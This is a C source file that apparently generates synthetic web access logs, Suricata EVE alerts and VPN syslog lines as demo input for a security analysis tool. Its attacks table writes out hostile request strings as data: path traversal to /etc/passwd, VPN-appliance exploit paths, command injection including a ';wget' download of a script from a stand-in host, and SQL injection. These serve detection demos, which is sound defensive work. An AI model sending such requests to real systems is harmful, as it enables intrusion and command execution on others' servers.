#include "cli/demo_samples.h"

#include <stdio.h>
#include <string.h>
#include <time.h>

#include "common/timefmt.h"
#include "common/banned.h"

static uint32_t rnd(uint32_t *s)
{
    /* xorshift32: tiny, deterministic, good enough to vary sample traffic */
    *s ^= *s << 13;
    *s ^= *s >> 17;
    *s ^= *s << 5;
    return *s;
}

#define PICK(arr, s) (arr[rnd(s) % (sizeof(arr) / sizeof(arr[0]))])

static const char *const browsers[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
};
static const char *const pages[] = {
    "/", "/index.html", "/news/2024/press-release.html", "/about/organization.html",
    "/procurement/notice.pdf", "/css/site.css", "/js/main.js", "/images/logo.png",
    "/search?q=budget+2024", "/contact/form.html", "/en/index.html", "/ja/index.html",
};
static const char *const scanners[] = {
    "Mozilla/5.0 zgrab/0.x", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space",
};
static const char *const probes[] = {
    "/.env", "/wp-login.php", "/.git/config", "/phpmyadmin/index.php", "/admin/config.php",
    "/server-status", "/actuator/env", "/owa/auth/logon.aspx",
};

struct attack {
    const char *request; /* method and target */
    int status;
    int bytes;
};

/* What the national center reports most: traversal, command execution and
 * exploitation of VPN gateways and file-sharing appliances. */
static const struct attack attacks[] = {
    {"GET /cgi-bin/../../../../etc/passwd", 400, 226},
    {"GET /download.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 404, 196},
    {"GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 200, 3125},
    {"GET /api/v1/totp/user-backup-code/../../license/keys-status/"
     "%3bpython%20-c%20%27import%20socket%27%3b",
     200, 131},
    {"POST /api/v1/license/keys-status/;id", 403, 0},
    {"GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/"
     "guacamole/",
     404, 0},
    {"POST /prx/000/http/localhost/client_sec/%00../../../addfolder", 200, 52},
    {"GET /proself/rpc.php?cmd=;wget%20http://203.0.113.66/x.sh", 500, 0},
    {"GET /index.php?page=;cat%20/etc/passwd", 404, 196},
    {"GET /search?q=1%27%20OR%20%271%27=%271", 200, 5120},
};

static void clf_time(int64_t us, char *out, size_t cap)
{
    static const char *mon[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
    time_t t = (time_t)(us / 1000000);
    struct tm tm;
    gmtime_r(&t, &tm);
    snprintf(out, cap, "%02d/%s/%04d:%02d:%02d:%02d +0000", tm.tm_mday, mon[tm.tm_mon],
             tm.tm_year + 1900, tm.tm_hour, tm.tm_min, tm.tm_sec);
}

int demo_write_access_log(const char *path, const char *host, const char *attacker, int n,
                          uint32_t seed, int64_t start_us, struct demo_sample_counts *out)
{
    FILE *f = fopen(path, "w");
    if (!f)
        return -1;
    uint32_t s = seed ? seed : 1;
    int64_t t = start_us;
    memset(out, 0, sizeof(*out));
    for (int i = 0; i < n; i++) {
        char ts[64], ip[64];
        t += 200000 + (int64_t)(rnd(&s) % 3000000);
        clf_time(t, ts, sizeof(ts));
        uint32_t r = rnd(&s) % 100;
        if (i == n / 2) {
            /* a truncated line, as a log rotation in mid-write leaves it */
            fprintf(f, "198.51.100.7 - - [%s] \"GET /index.h\n", ts);
            out->garbage++;
        } else if (r < 70) {
            snprintf(ip, sizeof(ip), "192.0.2.%u", rnd(&s) % 200 + 1);
            fprintf(f, "%s - - [%s] \"GET %s HTTP/1.1\" 200 %u \"https://%s/\" \"%s\"\n", ip, ts,
                    PICK(pages, &s), 1000 + rnd(&s) % 30000, host, PICK(browsers, &s));
        } else if (r < 76) {
            /* internet-wide scanners mostly fetch the front page, and get it */
            snprintf(ip, sizeof(ip), "198.51.100.%u", rnd(&s) % 50 + 1);
            fprintf(f, "%s - - [%s] \"GET / HTTP/1.1\" 200 5120 \"-\" \"%s\"\n", ip, ts,
                    PICK(scanners, &s));
        } else if (r < 88) {
            snprintf(ip, sizeof(ip), "198.51.100.%u", rnd(&s) % 50 + 1);
            fprintf(f, "%s - - [%s] \"GET %s HTTP/1.1\" 404 196 \"-\" \"%s\"\n", ip, ts,
                    PICK(probes, &s), PICK(scanners, &s));
        } else {
            const struct attack *a = &PICK(attacks, &s);
            const char *src = (r < 94) ? attacker : "203.0.113.45";
            fprintf(f, "%s - - [%s] \"%s HTTP/1.1\" %d %d \"-\" \"%s\"\n", src, ts, a->request,
                    a->status, a->bytes,
                    r % 2 ? "python-requests/2.31.0" : "curl/8.4.0");
        }
        out->lines++;
    }
    return fclose(f) == 0 ? 0 : -1;
}

int demo_write_eve(const char *path, const char *attacker, int n, uint32_t seed, int64_t start_us,
                   struct demo_sample_counts *out)
{
    FILE *f = fopen(path, "w");
    if (!f)
        return -1;
    uint32_t s = seed ? seed : 1;
    int64_t t = start_us;
    memset(out, 0, sizeof(*out));
    for (int i = 0; i < n; i++) {
        char ts[40];
        t += 100000 + (int64_t)(rnd(&s) % 2000000);
        cw_time_format_iso(t, ts);
        ts[26] = '\0'; /* EVE writes +0000 instead of Z */
        uint32_t r = rnd(&s) % 100;
        unsigned sport = 1024 + rnd(&s) % 60000;
        unsigned long long flow = ((unsigned long long)rnd(&s) << 20) ^ rnd(&s);
        if (r < 10) {
            fprintf(f,
                    "{\"timestamp\":\"%s+0000\",\"flow_id\":%llu,\"event_type\":\"alert\","
                    "\"src_ip\":\"%s\",\"src_port\":%u,\"dest_ip\":\"10.1.0.10\",\"dest_port\":443,"
                    "\"proto\":\"TCP\",\"alert\":{\"action\":\"%s\",\"gid\":1,\"signature_id\":"
                    "2049103,\"rev\":2,\"signature\":\"ET EXPLOIT Ivanti Connect Secure Command "
                    "Injection Attempt (CVE-2024-21887)\",\"category\":\"Attempted Administrator "
                    "Privilege Gain\",\"severity\":1},\"app_proto\":\"http\",\"http\":{\"hostname\":"
                    "\"vpn.example.go.jp\",\"url\":\"/api/v1/totp/user-backup-code/../../license/"
                    "keys-status/;id\",\"http_method\":\"GET\",\"status\":200,\"length\":131}}\n",
                    ts, flow, attacker, sport, r < 4 ? "blocked" : "allowed");
        } else if (r < 45) {
            fprintf(f,
                    "{\"timestamp\":\"%s+0000\",\"flow_id\":%llu,\"event_type\":\"dns\","
                    "\"src_ip\":\"10.1.2.%u\",\"src_port\":%u,\"dest_ip\":\"10.1.0.53\","
                    "\"dest_port\":53,\"proto\":\"UDP\",\"dns\":{\"type\":\"query\",\"id\":%u,"
                    "\"rrname\":\"%s\",\"rrtype\":\"A\",\"tx_id\":0}}\n",
                    ts, flow, rnd(&s) % 200 + 1, sport, rnd(&s) % 65536,
                    r < 12 ? "update-check.example-c2.net" : "www.example.go.jp");
        } else if (r < 80) {
            fprintf(f,
                    "{\"timestamp\":\"%s+0000\",\"flow_id\":%llu,\"event_type\":\"http\","
                    "\"src_ip\":\"192.0.2.%u\",\"src_port\":%u,\"dest_ip\":\"10.1.0.10\","
                    "\"dest_port\":80,\"proto\":\"TCP\",\"http\":{\"hostname\":\"www.example.go.jp\","
                    "\"url\":\"%s\",\"http_user_agent\":\"%s\",\"http_method\":\"GET\","
                    "\"protocol\":\"HTTP/1.1\",\"status\":200,\"length\":%u}}\n",
                    ts, flow, rnd(&s) % 200 + 1, sport, PICK(pages, &s), PICK(browsers, &s),
                    1000 + rnd(&s) % 20000);
        } else {
            fprintf(f,
                    "{\"timestamp\":\"%s+0000\",\"flow_id\":%llu,\"event_type\":\"flow\","
                    "\"src_ip\":\"10.1.2.%u\",\"src_port\":%u,\"dest_ip\":\"198.51.100.%u\","
                    "\"dest_port\":443,\"proto\":\"TCP\",\"app_proto\":\"tls\",\"flow\":"
                    "{\"pkts_toserver\":%u,\"pkts_toclient\":%u,\"bytes_toserver\":%u,"
                    "\"bytes_toclient\":%u,\"state\":\"closed\",\"reason\":\"timeout\"}}\n",
                    ts, flow, rnd(&s) % 200 + 1, sport, rnd(&s) % 200 + 1, 5 + rnd(&s) % 50,
                    5 + rnd(&s) % 50, 500 + rnd(&s) % 5000, 500 + rnd(&s) % 50000);
        }
        out->lines++;
    }
    return fclose(f) == 0 ? 0 : -1;
}

int demo_write_syslog(const char *path, const char *attacker, int n, uint32_t seed,
                      int64_t start_us, struct demo_sample_counts *out)
{
    FILE *f = fopen(path, "w");
    if (!f)
        return -1;
    uint32_t s = seed ? seed : 1;
    int64_t t = start_us;
    memset(out, 0, sizeof(*out));
    for (int i = 0; i < n; i++) {
        char ts[40];
        t += 500000 + (int64_t)(rnd(&s) % 5000000);
        cw_time_format_iso(t, ts);
        uint32_t r = rnd(&s) % 100;
        if (r < 60)
            fprintf(f,
                    "<134>1 %s vpn-gw01 sslvpn 2211 LOGIN - user=staff%03u src=192.0.2.%u "
                    "result=success\n",
                    ts, rnd(&s) % 300, rnd(&s) % 200 + 1);
        else if (r < 90)
            fprintf(f,
                    "<132>1 %s vpn-gw01 sslvpn 2211 LOGIN - user=admin src=%s result=failure "
                    "reason=bad-password\n",
                    ts, attacker);
        else
            fprintf(f,
                    "<131>1 %s vpn-gw01 httpd 1022 WEBREQ - src=%s uri=/remote/fgt_lang?lang=/../"
                    "../../..//////////dev/cmdb/sslvpn_websession status=200\n",
                    ts, attacker);
        out->lines++;
    }
    return fclose(f) == 0 ? 0 : -1;
}
